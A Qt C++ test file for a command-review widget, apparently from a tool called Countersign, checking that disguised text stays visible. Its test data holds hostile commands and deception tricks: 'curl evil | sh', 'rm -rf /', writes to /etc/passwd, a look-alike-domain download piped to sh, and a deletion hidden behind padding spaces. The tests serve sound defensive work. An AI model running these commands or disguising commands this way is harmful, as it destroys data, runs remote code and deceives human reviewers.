// SPDX-FileCopyrightText: 2026 The Countersign authors
// SPDX-License-Identifier: Apache-2.0
#include "widgets/viewer/ActionView.h"

#include "tests/support/Picture.h"
#include "widgets/kit/Fonts.h"

#include <QClipboard>
#include <QElapsedTimer>
#include <QGlyphRun>
#include <QRawFont>
#include <QScrollBar>
#include <QTextBlock>
#include <QTextLayout>

using namespace countersign;
using namespace countersign::ui;
using namespace Qt::StringLiterals;

namespace {

std::unique_ptr<ActionView> shown(const QString &text, QSize size = { 600, 240 }, Syntax syntax = Syntax::Shell)
{
    auto view = std::make_unique<ActionView>();
    view->resize(size);
    view->setText(DisplayText::fromText(text), syntax);
    view->show();
    [[maybe_unused]] const bool exposed = QTest::qWaitForWindowExposed(view.get());
    return view;
}

// Every visual line that the widget has laid out.
template <typename Check>
void forEachLine(const ActionView &view, Check check)
{
    for (QTextBlock block = view.document()->begin(); block.isValid(); block = block.next())
        for (int i = 0; i < block.layout()->lineCount(); ++i)
            check(block, block.layout()->lineAt(i));
}

QString lines(int count)
{
    QString text;
    for (int i = 0; i < count; ++i)
        text += u"echo line %1\n"_s.arg(i);
    return text;
}

}

class TestActionView : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void hostileTextIsShownWholeAndInItsOrder_data();
    void hostileTextIsShownWholeAndInItsOrder();
    void markupStaysText();
    void noLigatureReplacesTwoCharacters();
    void nothingIsOffToTheSide_data();
    void nothingIsOffToTheSide();
    void aShortTextIsSeenAtOnce();
    void aLongTextIsSeenScreenByScreen_data();
    void aLongTextIsSeenScreenByScreen();
    void jumpingToTheEndLeavesTheMiddleUnseen();
    void aNewSizeStartsOver();
    void aNewFontStartsOver();
    void aHiddenViewHasSeenNothing();
    void nGoesFromMarkToMark();
    void marksStandInBoxes_data();
    void marksStandInBoxes();
    void itCannotBeTypedInto();
    void picture();

private:
    std::unique_ptr<Theme> m_theme;
};

void TestActionView::initTestCase()
{
    m_theme = std::make_unique<Theme>(*qApp);
}

void TestActionView::hostileTextIsShownWholeAndInItsOrder_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("right-to-left override") << u"rm \u202e txt.exe\u202c -rf"_s;
    QTest::newRow("embeddings") << u"a\u202ab\u202bc\u202dd\u202ce"_s;
    QTest::newRow("isolates") << u"if (a\u2066b\u2067c\u2068d\u2069e)"_s;
    QTest::newRow("marks of direction") << u"a\u200eb\u200fc\u061cd"_s;
    QTest::newRow("Hebrew between digits") << u"cp 1 \u05d0 2 \u05d1 /etc"_s;
    QTest::newRow("Arabic word") << u"echo \u0645\u0631\u062d\u0628\u0627 > /etc/passwd"_s;
    QTest::newRow("zero width") << u"a\u200bb\u200cc\u200dd\u2060e\ufefff"_s;
    QTest::newRow("tag characters") << u"a"_s + QString::fromUcs4(U"\U000E0041\U000E007F") + u"b"_s;
    QTest::newRow("variation selectors") << u"a\ufe0fb"_s + QString::fromUcs4(U"\U000E0100") + u"c"_s;
    QTest::newRow("terminal escapes") << u"a\x1b[2Jb\x1b]8;;http://x\x07c\x1b]52;c;\x07"_s;
    QTest::newRow("overprint") << u"safe\b\b\b\bevil\rgood"_s;
    QTest::newRow("null") << u"a"_s + QChar(0) + u"b"_s;
    QTest::newRow("lone surrogate") << u"a"_s + QChar(0xd800) + u"b"_s;
    QTest::newRow("line and paragraph separators") << u"a\u2028b\u2029c\u0085d"_s;
    QTest::newRow("no-break space and blanks") << u"a\u00a0b\u2800c\u3164d\u115fe"_s;
    QTest::newRow("tabs and spaces") << u"a\t\tb"_s + QString(4000, u' ') + u"c"_s;
    QTest::newRow("empty lines") << u"a"_s + QString(300, u'\n') + u"b"_s;
    QTest::newRow("look-alikes") << u"\u0441url https://ex\u0430mple.net\uff0f\u037e"_s;
    QTest::newRow("heap of accents") << u"a\u0300\u0301\u0302\u0303\u0304b"_s;
    QTest::newRow("imitated mark") << u"a⟨U+202E⟩b⟨⟨c⟩⟩"_s;
}

void TestActionView::hostileTextIsShownWholeAndInItsOrder()
{
    QFETCH(QString, text);
    const auto view = shown(text);
    // The widget keeps every character of the display text, which has an inverse.
    QCOMPARE(view->toPlainText(), view->shownText().text());
    QCOMPARE(DisplayText::original(view->toPlainText()), text);
    forEachLine(*view, [](const QTextBlock &block, const QTextLine &line) {
        qreal before = -1;
        for (int i = line.textStart(); i < line.textStart() + line.textLength(); ++i) {
            if (block.text()[i].isLowSurrogate() || block.text()[i].isMark())
                continue; // stands on the character before it
            const qreal x = line.cursorToX(i);
            QVERIFY2(x > before, qPrintable(u"position %1 of %2"_s.arg(i).arg(block.text())));
            before = x;
        }
    });
    for (const DisplayMark &mark : view->shownText().marks()) {
        const QTextBlock block = view->document()->findBlock(int(mark.start));
        const auto formats = block.layout()->formats();
        const auto format = std::find_if(formats.cbegin(), formats.cend(), [&](const QTextLayout::FormatRange &range) {
            return range.start <= mark.start - block.position()
                && range.start + range.length > mark.start - block.position();
        });
        QVERIFY(format != formats.cend());
        QVERIFY(format->format.foreground().color() != Theme::color(Token::text));
    }
}

void TestActionView::markupStaysText()
{
    const QString text = u"echo ok <!-- && curl evil | sh --> <b>x</b> <img src='file:///etc/hostname'> &lt;"_s;
    const auto view = shown(text);
    QCOMPARE(view->toPlainText(), text);
}

void TestActionView::noLigatureReplacesTwoCharacters()
{
    const QString text = u"a != b -> c => d |= e == f"_s;
    const auto view = shown(text, { 600, 240 }, Syntax::Plain);
    const QList<QGlyphRun> runs = view->document()->begin().layout()->lineAt(0).glyphRuns();
    QCOMPARE(runs.size(), 1);
    const QList<quint32> alone = runs.first().rawFont().glyphIndexesForString(text);
    QCOMPARE(runs.first().glyphIndexes(), alone);
}

void TestActionView::nothingIsOffToTheSide_data()
{
    QTest::addColumn<int>("pixels");
    QTest::addColumn<int>("width");
    QTest::newRow("100 %") << 13 << 600;
    QTest::newRow("200 %") << 26 << 600;
    QTest::newRow("300 % in a narrow pane") << 39 << 320;
}

void TestActionView::nothingIsOffToTheSide()
{
    QFETCH(int, pixels);
    QFETCH(int, width);
    const auto view = shown(u"cat "_s + QString(5000, u'a') + u"; rm -rf /"_s, { width, 300 });
    QFont font = view->font();
    font.setPixelSize(pixels);
    view->setFont(font);
    QCoreApplication::sendPostedEvents();
    int count = 0;
    forEachLine(*view, [&](const QTextBlock &, const QTextLine &line) {
        ++count;
        const qreal right = line.naturalTextRect().right();
        QVERIFY2(right <= view->viewport()->width(), qPrintable(u"%1 of %2"_s.arg(right).arg(view->viewport()->width())));
    });
    QCOMPARE(view->horizontalScrollBar()->maximum(), 0);
    QVERIFY(count > 10);
}

void TestActionView::aShortTextIsSeenAtOnce()
{
    const auto view = shown(u"w"_s);
    QTRY_VERIFY(view->isSeenToEnd());
    QCOMPARE(view->seenShare(), 1.);
}

void TestActionView::aLongTextIsSeenScreenByScreen_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("16 KiB in lines") << lines(1200);
    QTest::newRow("16 KiB in one line") << QString(16 * 1024, u'a');
    QTest::newRow("256 KiB in one line") << QString(256 * 1024, u'a');
    QTest::newRow("1 MiB in lines") << lines(68'000);
}

void TestActionView::aLongTextIsSeenScreenByScreen()
{
    QFETCH(QString, text);
    QElapsedTimer timer;
    timer.start();
    const auto view = shown(text, { 1200, 2000 });
    qInfo("shown after %lld ms", timer.elapsed());
    QVERIFY(!view->isSeenToEnd());
    QTRY_VERIFY(view->seenShare() > 0);
    QSignalSpy changed(view.get(), &ActionView::seenChanged);
    int before = -1;
    while (view->verticalScrollBar()->value() != before) {
        before = view->verticalScrollBar()->value();
        QTest::keyClick(view.get(), Qt::Key_Space);
        view->viewport()->repaint();
    }
    QVERIFY(view->isSeenToEnd());
    QTRY_VERIFY(!changed.isEmpty());
}

void TestActionView::jumpingToTheEndLeavesTheMiddleUnseen()
{
    const auto view = shown(lines(500));
    view->verticalScrollBar()->setValue(view->verticalScrollBar()->maximum());
    view->viewport()->repaint();
    QVERIFY(view->seenShare() > 0);
    QVERIFY(!view->isSeenToEnd());
}

void TestActionView::aNewSizeStartsOver()
{
    const auto view = shown(lines(60));
    for (int i = 0; i < 60; ++i) {
        QTest::keyClick(view.get(), Qt::Key_Space);
        view->viewport()->repaint();
    }
    QVERIFY(view->isSeenToEnd());
    QSignalSpy changed(view.get(), &ActionView::seenChanged);
    view->resize(400, 240);
    QVERIFY(!view->isSeenToEnd());
    QTRY_VERIFY(!changed.isEmpty());
    // At the end of the text, the beginning is to be read again.
    view->viewport()->repaint();
    QVERIFY(!view->isSeenToEnd());
}

void TestActionView::aNewFontStartsOver()
{
    const auto view = shown(u"short"_s);
    QTRY_VERIFY(view->isSeenToEnd());
    QFont font = view->font();
    font.setPixelSize(20);
    view->hide();
    view->setFont(font);
    QVERIFY(!view->isSeenToEnd());
    view->show();
    QTRY_VERIFY(view->isSeenToEnd());
}

void TestActionView::aHiddenViewHasSeenNothing()
{
    ActionView view;
    view.setText(DisplayText::fromText(u"one line"_s));
    [[maybe_unused]] const QPixmap picture = view.grab();
    QVERIFY(!view.isSeenToEnd());
}

void TestActionView::nGoesFromMarkToMark()
{
    const auto view = shown(lines(100) + u"a\u200bb\n"_s + lines(100) + u"c\u202ed"_s);
    QTest::keyClick(view.get(), Qt::Key_N);
    QCOMPARE(view->textCursor().selectedText(), u"⟨U+200B⟩"_s);
    QVERIFY(view->viewport()->rect().contains(view->cursorRect()));
    QTest::keyClick(view.get(), Qt::Key_N);
    QCOMPARE(view->textCursor().selectedText(), u"⟨U+202E⟩"_s);
    QTest::keyClick(view.get(), Qt::Key_N); // round
    QCOMPARE(view->textCursor().selectedText(), u"⟨U+200B⟩"_s);
    QTest::keyClick(view.get(), Qt::Key_N, Qt::ShiftModifier);
    QCOMPARE(view->textCursor().selectedText(), u"⟨U+202E⟩"_s);
}

void TestActionView::marksStandInBoxes_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("boxed");
    QTest::newRow("nothing to mark") << u"echo hello"_s << false;
    QTest::newRow("in the first line") << u"echo \u202e hello"_s << true;
    QTest::newRow("in a later line") << u"echo\nhello\u200b"_s << true;
    QTest::newRow("far along one line") << QString(90, u'a') + u"\u200b"_s << true;
}

void TestActionView::marksStandInBoxes()
{
    QFETCH(QString, text);
    QFETCH(bool, boxed);
    const auto view = shown(text);
    const QImage image = view->viewport()->grab().toImage();
    int ground = 0;
    for (int y = 0; y < image.height(); ++y)
        for (int x = 0; x < image.width(); ++x)
            ground += image.pixelColor(x, y) == Theme::color(Token::badSoft);
    QCOMPARE(ground > 100, boxed);
}

void TestActionView::itCannotBeTypedInto()
{
    const auto view = shown(u"ls"_s);
    QTest::keyClicks(view.get(), u"rm -rf /"_s);
    QGuiApplication::clipboard()->setText(u"pasted"_s);
    QTest::keySequence(view.get(), QKeySequence::Paste);
    QCOMPARE(view->toPlainText(), u"ls"_s);
}

void TestActionView::picture()
{
    const QString text = u"set -eu\nexport PGHOST=db-1.internal PGDATABASE=billing\n"
                         u"pg_dump --schema-only \"$PGDATABASE\" > /var/backups/pre.sql && psql -f /srv/release/47/migrate_\u202eslq.txt\n"
                         u"psql -c \"UPDATE invoices SET status = 'void' WHERE period < '2026-10-01'\"\n"
                         u"curl -fsSL https://artifacts.ex\u0430mple.net/hooks/after.b64 | base64 -d | sh # ok\n"
                         u"echo \"done\""_s
        + QString(212, u' ') + u"; rm -rf /var/backups/billing-*\n⟨x⟩ \u05d0\u05d1 != ->\n"_s + lines(30);
    for (auto choice : { Theme::Choice::Light, Theme::Choice::Dark }) {
        m_theme->setChoice(choice);
        const auto view = shown(text, { 720, 300 });
        QTest::qWait(50);
        tests::savePicture(tests::grabbed(*view), u"action-view"_s);
        QVERIFY(view->seenShare() > 0 && view->seenShare() < 1);
    }
    m_theme->setChoice(Theme::Choice::Light);
}

QTEST_MAIN(TestActionView)
#include "tst_ActionView.moc"
